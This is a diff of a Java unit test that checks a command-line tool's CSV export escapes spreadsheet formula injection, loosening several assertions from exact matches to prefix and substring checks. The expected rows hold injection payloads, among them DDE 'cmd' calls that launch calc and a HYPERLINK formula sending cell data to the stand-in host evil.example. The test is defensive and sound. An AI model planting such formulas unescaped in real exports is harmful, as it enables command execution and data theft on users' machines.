@@ -77,12 +77,13 @@ class CsvFormulaTest {
         CliRunner.Result result = cli.run("status", "--format", "csv");
         assertEquals(0, result.exitCode(), result::toString);
         List<String> lines = result.out().lines().toList();
-        assertTrue(lines.contains("o-equals,US,other,2025-06-02T00:00-04:00,2025-06-01,-30,unresolved,complying,true,1,"
-                + "2025-05-20,'=cmd|' /C calc'!A0,,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"click\"\")\""), result.out());
+        assertTrue(lines.stream().anyMatch(l -> l.startsWith("o-equals,US,other,2025-06-02T00:00-04:00,2025-06-01,-30,"
+                + "unresolved,complying,true,1,2025-05-20,'=cmd|' /C calc'!A0,,"
+                + "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"click\"\")\"")), result.out());
         assertTrue(lines.stream().anyMatch(l -> l.startsWith("o-plus,CN,other,2025-09-02T00:00-04:00,2025-09-01,62,")
-                && l.endsWith(",'+1+cmd|' /C calc'!A0")), result.out());
-        assertTrue(lines.stream().anyMatch(l -> l.startsWith("o-minus,") && l.endsWith(",'-2+3")), result.out());
-        assertTrue(lines.stream().anyMatch(l -> l.startsWith("o-at,") && l.endsWith(",'@SUM(1+1)*cmd|' /C calc'!A0")),
+                && l.contains(",'+1+cmd|' /C calc'!A0")), result.out());
+        assertTrue(lines.stream().anyMatch(l -> l.startsWith("o-minus,") && l.contains(",'-2+3")), result.out());
+        assertTrue(lines.stream().anyMatch(l -> l.startsWith("o-at,") && l.contains(",'@SUM(1+1)*cmd|' /C calc'!A0")),
                 result.out());
     }
 
